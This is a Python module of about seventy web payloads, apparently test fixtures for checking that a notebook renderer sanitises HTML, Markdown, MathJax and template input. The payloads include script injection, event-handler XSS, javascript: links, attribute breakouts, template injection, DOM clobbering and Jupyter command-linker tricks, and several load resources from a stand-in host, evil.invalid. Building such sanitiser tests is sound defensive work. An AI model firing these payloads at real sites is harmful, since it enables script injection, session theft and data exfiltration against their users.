"""Payloads: texts that run script, load something or break out, wherever they are taken for more than text.

Each calls `hacked(...)`, sets `window.hacked`, or asks `evil.invalid` for something; a page must do none of it.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.hacked=1"
EVIL: Final = "http://evil.invalid"

PAYLOADS: Final[tuple[str, ...]] = (
    # Script, and what carries it
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}/1.js></SCRIPT>",
    f"<script type=module>import '{EVIL}/2.js'</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    # Event handlers
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror={RUN}//",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<div style='animation:x' onanimationstart={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    # Links
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href='java\tscript:{RUN}'>click</a>",
    f"<a href='&#106;avascript:{RUN}'>click</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
    f"<a href='file:///etc/passwd' ping='{EVIL}/3'>click</a>",
    f"javascript:{RUN}",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4={EVIL}",
    f"vbscript:{RUN}",
    # Vector drawings, mathematics, frames, forms
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<svg><image href='{EVIL}/4.png'/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math href='javascript:{RUN}'>click</math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='{EVIL}/5'></object><embed src='{EVIL}/6'>",
    f"<form action='{EVIL}/7'><button formaction='javascript:{RUN}'>go</button></form><isindex action=javascript:{RUN}>",
    f"<base href='{EVIL}/'><a href=x>x</a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/8'>",
    f"<link rel=stylesheet href='{EVIL}/9.css'><link rel=prefetch href='{EVIL}/10'>",
    f"<style>@import '{EVIL}/11.css';*{{background:url({EVIL}/12)}}</style>",
    f"<div style=\"background:url('{EVIL}/13')\">x</div>",
    f"<table background='{EVIL}/14'><tr><td>x</table>",
    # Out of an attribute, by each quote and without
    f"\"><img src='{EVIL}/15' onerror={RUN}>",
    f"'><img src=\"{EVIL}/16\" onerror={RUN}>",
    f"` onmouseover=`{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"x onmouseover={RUN} style=position:fixed;inset:0 ",
    f"red;background:url({EVIL}/17);}}</style>",
    f'\\"}});{RUN};//',
    # Markdown
    f"[click](javascript:{RUN})",
    f"[click](  javaSCRIPT&colon;{RUN} 'title')",
    f"![x]({EVIL}/18.png) ![x][1]\n\n[1]: {EVIL}/19.png",
    f"<{EVIL}/20> <javascript:{RUN}> [x](<{EVIL}/21> '\" onmouseover={RUN} \"')",
    f'# head <img src=x onerror={RUN}>\n\n```html\n<script>{RUN}</script>\n```\n\n~~~"onload={RUN}\nx\n~~~',
    f"| a | b |\n|:--|--:|\n| <img src=x onerror={RUN}> | `<svg onload={RUN}>` |",
    f"[a]: data:text/html,<script>{RUN}</script>\n\n[a] &lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"<details><summary>x</summary>\n\n<img src=x onerror={RUN}>\n\n</details>",
    # Templates
    "{{ 'zx' * 4 }} {% include 'x' %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.hacked=1')()}}",
    f"{{{{ lipsum.__globals__ }}}}<img src=x onerror={RUN}>",
    # Mathematics that notebooks typeset
    f"$\\href{{javascript:{RUN}}}{{click}}$ and $$\\unicode{{x3c}}\\cssId{{hacked}}{{x}}\\class{{jp-mod}}{{x}}$$",
    f"\\(\\style{{background:url({EVIL}/22)}}{{x}}\\) \\[\\text{{<img src=x onerror={RUN}>}}\\]",
    "\\begin{align} \\require{html} \\data{x=1}{y} \\end{align} costs $5 or $6",
    # Unicode, controls, encodings
    f"\u202e>{RUN}=rorreno x=crs gmi<\u202c <img src=x onerror={RUN}>",
    f"<img src=x\x00 onerror={RUN}>\x00\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07\x1b[31m",
    f"\ufeff\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2028<img\u00a0src=x onerror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- \ud800<svg/onload={RUN}>",
    f"%3Cscript%3E{RUN}%3C/script%3E \\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    # What a notebook itself knows
    f"<img src='attachment:x.png' onerror={RUN}> <a href='file:///etc/passwd'>x</a>",
    "<a id=jupyterapp name=hacked href='x:y'>x</a><form id=document><input name=cookie></form><img name=getElementById>",
    "<div class='jp-mod-trusted' data-commandlinker-command='notebook:run-all-cells'"
    " data-commandlinker-args='{}'>click</div>",
    f"<jp-button onclick={RUN}>x</jp-button><x-y contenteditable onfocus={RUN} tabindex=1 autofocus>",
)  # fmt: skip
